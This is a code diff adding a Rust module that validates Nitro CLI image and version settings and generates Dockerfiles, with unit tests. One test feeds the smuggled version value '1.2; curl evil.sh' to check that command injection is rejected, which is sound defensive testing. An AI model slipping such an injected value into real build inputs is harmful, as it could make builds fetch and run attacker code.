@@ -0,0 +1,131 @@
+use common::CliError;
+use regex::Regex;
+use thiserror::Error;
+
+const DEFAULT_NITRO_CLI_DOCKERFILE: &[u8] = include_bytes!("nitro-cli-image.Dockerfile");
+
+#[derive(Debug, Error)]
+pub enum NitroCliImageError {
+    #[error("Only one of nitro_cli_image and nitro_cli_version can be set. To pin the Nitro CLI in a custom image, install the version you need when building it.")]
+    ConflictingSources,
+    #[error("Invalid Nitro CLI image reference `{0}`. Digests must be given as @sha256:<64 hex characters>.")]
+    InvalidImageReference(String),
+    #[error("Invalid Nitro CLI version `{0}`. Expected a package version such as 1.2.2.")]
+    InvalidVersion(String),
+}
+
+impl CliError for NitroCliImageError {
+    fn exitcode(&self) -> exitcode::ExitCode {
+        exitcode::DATAERR
+    }
+}
+
+/// Where the Nitro CLI used to convert images to EIFs, and to describe them, comes from
+#[derive(Clone, Debug, Default, PartialEq, Eq)]
+pub enum NitroCliImage {
+    /// The latest Nitro CLI release, installed on amazonlinux:2
+    #[default]
+    Latest,
+    /// A specific Nitro CLI release, installed on amazonlinux:2
+    Version(String),
+    /// A prebuilt image with nitro-cli on its path, e.g. an internal mirror
+    Image(String),
+}
+
+impl NitroCliImage {
+    pub fn new(image: Option<&str>, version: Option<&str>) -> Result<Self, NitroCliImageError> {
+        match (image, version) {
+            (Some(_), Some(_)) => Err(NitroCliImageError::ConflictingSources),
+            (Some(image), None) => {
+                let digest_pattern =
+                    Regex::new(r"^sha256:[0-9a-f]{64}$").expect("Infallible - static regex");
+                let valid = match image.split_once('@') {
+                    Some((name, digest)) => !name.is_empty() && digest_pattern.is_match(digest),
+                    None => !image.is_empty() && !image.contains(char::is_whitespace),
+                };
+                if valid {
+                    Ok(Self::Image(image.to_string()))
+                } else {
+                    Err(NitroCliImageError::InvalidImageReference(image.to_string()))
+                }
+            }
+            (None, Some(version)) => {
+                let version_pattern =
+                    Regex::new(r"^[0-9][0-9A-Za-z._-]*$").expect("Infallible - static regex");
+                if version_pattern.is_match(version) {
+                    Ok(Self::Version(version.to_string()))
+                } else {
+                    Err(NitroCliImageError::InvalidVersion(version.to_string()))
+                }
+            }
+            (None, None) => Ok(Self::Latest),
+        }
+    }
+
+    /// Whether every build will use the same Nitro CLI. Tags and unpinned installs can change
+    /// between builds, while image digests can't.
+    pub fn is_pinned(&self) -> bool {
+        match self {
+            Self::Latest => false,
+            Self::Version(_) => true,
+            Self::Image(image) => image.contains("@sha256:"),
+        }
+    }
+
+    pub(super) fn dockerfile(&self) -> Vec<u8> {
+        match self {
+            Self::Latest => DEFAULT_NITRO_CLI_DOCKERFILE.to_vec(),
+            Self::Version(version) => format!(
+                "FROM amazonlinux:2\n\nRUN amazon-linux-extras enable aws-nitro-enclaves-cli; \\\n    yum install aws-nitro-enclaves-cli-{version} aws-nitro-enclaves-cli-devel-{version} -y;\n\nENTRYPOINT [\"nitro-cli\"]\n"
+            )
+            .into_bytes(),
+            Self::Image(image) => format!("FROM {image}\n\nENTRYPOINT [\"nitro-cli\"]\n").into_bytes(),
+        }
+    }
+}
+
+#[cfg(test)]
+mod test {
+    use super::*;
+
+    #[test]
+    fn test_nitro_cli_image_sources() {
+        assert_eq!(
+            NitroCliImage::new(None, None).unwrap(),
+            NitroCliImage::Latest
+        );
+        assert!(!NitroCliImage::Latest.is_pinned());
+
+        let version = NitroCliImage::new(None, Some("1.2.2")).unwrap();
+        assert!(version.is_pinned());
+        let dockerfile = String::from_utf8(version.dockerfile()).unwrap();
+        assert!(
+            dockerfile.contains("aws-nitro-enclaves-cli-1.2.2 aws-nitro-enclaves-cli-devel-1.2.2")
+        );
+        assert!(matches!(
+            NitroCliImage::new(None, Some("1.2; curl evil.sh")),
+            Err(NitroCliImageError::InvalidVersion(_))
+        ));
+
+        let digest = "a".repeat(64);
+        let pinned = NitroCliImage::new(
+            Some(&format!("mirror.internal/nitro-cli@sha256:{digest}")),
+            None,
+        )
+        .unwrap();
+        assert!(pinned.is_pinned());
+        let dockerfile = String::from_utf8(pinned.dockerfile()).unwrap();
+        assert!(dockerfile.starts_with(&format!("FROM mirror.internal/nitro-cli@sha256:{digest}")));
+
+        let tagged = NitroCliImage::new(Some("mirror.internal/nitro-cli:1.2.2"), None).unwrap();
+        assert!(!tagged.is_pinned());
+        assert!(matches!(
+            NitroCliImage::new(Some("mirror.internal/nitro-cli@sha256:abc"), None),
+            Err(NitroCliImageError::InvalidImageReference(_))
+        ));
+        assert!(matches!(
+            NitroCliImage::new(Some("mirror.internal/nitro-cli"), Some("1.2.2")),
+            Err(NitroCliImageError::ConflictingSources)
+        ));
+    }
+}